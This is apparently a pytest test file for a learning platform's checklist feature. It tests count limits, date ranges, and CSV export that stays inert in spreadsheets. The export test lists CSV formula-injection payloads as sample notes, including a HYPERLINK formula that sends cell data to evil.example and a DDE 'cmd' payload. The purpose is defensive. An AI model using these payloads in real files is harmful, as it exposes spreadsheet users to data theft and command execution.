"""Checklist counts have an upper bound everywhere (import, editor, database), and the CSV export is inert in Excel."""

from __future__ import annotations

from datetime import date, timedelta

import pytest
from sqlalchemy import insert
from sqlalchemy.exc import DataError, IntegrityError
from sqlmodel import Session, select

from academy.accounts import users
from academy.checklist import entries
from academy.checklist import files as cio
from academy.checklist import log as ck
from academy.classroom import cohorts
from academy.content.loader import Course
from academy.core.models import ChecklistEntry, Role, User
from academy.dashboard import queries as dashboard

MON = date(2026, 11, 2)
HEADER = "period,period_start,item_id,executed,fulfilled,note"
HUGE = 9223372036854775807  # the largest 64-bit integer: two of them overflow any SUM


@pytest.fixture
def ids(course: Course) -> list[str]:
    return [item for _, item in course.checklist_items()]


def person(session: Session, name: str, role: Role = Role.learner) -> User:
    user = users.register(session, username=name, display_name=name.title(), password="password-123")
    user.role = role
    user.share_checklist = True
    session.add(user)
    session.commit()
    return user


def csv(*rows: str) -> bytes:
    return ("\n".join([HEADER, *rows]) + "\n").encode("utf-8-sig")


def test_a_learners_huge_counts_never_take_down_the_trainers_dashboard(
    session: Session, ids: list[str], course: Course
) -> None:
    trainer, learner, other = (
        person(session, "trainer", Role.trainer),
        person(session, "learner"),
        person(session, "okay"),
    )
    cohort = cohorts.create_cohort(session, trainer=trainer, name="East")
    for member in (learner, other):
        cohorts.join_cohort(session, user=member, code=cohort.join_code)
    ck.save_period(
        session,
        user_id=other.id,
        period="week",
        start=MON,
        rows={ids[0]: {"executed": 3, "fulfilled": 2}},
        item_ids=set(ids),
    )
    session.commit()
    data = csv(f"week,{MON},{ids[0]},{HUGE},{HUGE},", f"week,{MON + timedelta(weeks=1)},{ids[0]},{HUGE},{HUGE},")
    with pytest.raises(entries.ChecklistRowErrors) as err:
        cio.import_csv(session, user_id=learner.id, data=data, item_ids=set(ids))
    assert {(p.row, p.column, p.key) for p in err.value.problems} >= {(2, "executed", "ck_err_count_max")}
    session.rollback()
    dash = dashboard.load(session, viewer=trainer, cohort_id=cohort.id, course=course)
    assert len(dash.checklist) == 2  # both sharing learners are on it; nothing overflowed


def test_the_editor_refuses_a_count_above_the_maximum(session: Session, ids: list[str]) -> None:
    user = person(session, "eddie")
    rows = {ids[0]: {"executed": entries.MAX_COUNT + 1, "fulfilled": 1}, ids[1]: {"executed": 5, "fulfilled": 5}}
    with pytest.raises(entries.ChecklistRowErrors) as err:
        ck.save_period(session, user_id=user.id, period="week", start=MON, rows=rows, item_ids=set(ids))
    assert [(p.row, p.column, p.key, p.params) for p in err.value.problems] == [
        (ids[0], "executed", "ck_err_count_max", {"max": entries.MAX_COUNT})
    ]
    at_max = {ids[0]: {"executed": entries.MAX_COUNT, "fulfilled": entries.MAX_COUNT}}
    assert ck.save_period(session, user_id=user.id, period="week", start=MON, rows=at_max, item_ids=set(ids)) == 1


@pytest.mark.parametrize(("executed", "fulfilled"), [(HUGE, 0), (1001, 0), (3, 4), (-1, 0), (2, -1)])
def test_the_database_refuses_counts_out_of_bounds(session: Session, executed: int, fulfilled: int) -> None:
    user = person(session, "raw")
    row = {"user_id": user.id, "period": "week", "period_start": MON, "item_id": "x", "note": ""}
    with pytest.raises((IntegrityError, DataError)):  # PostgreSQL: out of its integer range
        session.execute(insert(ChecklistEntry).values(**row, executed=executed, fulfilled=fulfilled))
        session.flush()


def test_ten_years_of_maximum_daily_counts_sum_without_overflow(
    session: Session, ids: list[str], course: Course
) -> None:
    trainer, learner = person(session, "coach", Role.trainer), person(session, "busy")
    cohort = cohorts.create_cohort(session, trainer=trainer, name="Busy")
    cohorts.join_cohort(session, user=learner, code=cohort.join_code)
    days = [date(2016, 1, 4) + timedelta(days=n) for n in range(3650)]
    session.execute(
        insert(ChecklistEntry),
        [
            {
                "user_id": learner.id,
                "period": "day",
                "period_start": d,
                "item_id": ids[0],
                "executed": 1000,
                "fulfilled": 1000,
                "note": "",
            }
            for d in days
        ],
    )
    session.commit()
    dash = dashboard.load(session, viewer=trainer, cohort_id=cohort.id, course=course)
    assert len(dash.checklist) == 1
    totals = ck.period_totals(session, user_id=learner.id, period="week", start=date(2016, 1, 4))
    assert totals[ids[0]] == (7000, 7000)


@pytest.mark.parametrize(
    "note",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "'already quoted",
        "plain text",
        "",
    ],
)
def test_checklist_csv_export_is_inert_in_a_spreadsheet_and_imports_back_unchanged(
    session: Session, ids: list[str], note: str
) -> None:
    ana, bob = person(session, "ana"), person(session, "bob")
    rows = {ids[0]: {"executed": 2, "fulfilled": 1, "note": note}}
    ck.save_period(session, user_id=ana.id, period="week", start=MON, rows=rows, item_ids=set(ids))
    data = cio.export_csv(session, user_id=ana.id)
    for cell in cio.read_csv(data).to_numpy().ravel():
        assert not str(cell).startswith(("=", "+", "-", "@", "\t", "\r")), cell  # a spreadsheet runs none
    assert cio.import_csv(session, user_id=bob.id, data=data, item_ids=set(ids)) == 1
    stored = session.exec(select(ChecklistEntry.note).where(ChecklistEntry.user_id == bob.id)).one()
    assert stored == note.strip()


@pytest.mark.parametrize("day", ["9999-12-27", "0001-01-01", "1999-12-27", "2101-01-03"])
def test_a_date_outside_the_years_a_log_can_have_is_refused_by_row_and_column(
    session: Session, ids: list[str], day: str
) -> None:
    # 9999-12-27 is a Monday: stored, it overflowed the week's end (day + 6) on every chart of the log
    user = person(session, "years")
    with pytest.raises(entries.ChecklistRowErrors) as err:
        cio.import_csv(session, user_id=user.id, data=csv(f"week,{day},{ids[0]},1,1,"), item_ids=set(ids))
    assert [(p.row, p.column, p.key) for p in err.value.problems] == [(2, "period_start", "ck_err_date_range")]
    session.rollback()
    assert session.exec(select(ChecklistEntry).where(ChecklistEntry.user_id == user.id)).first() is None
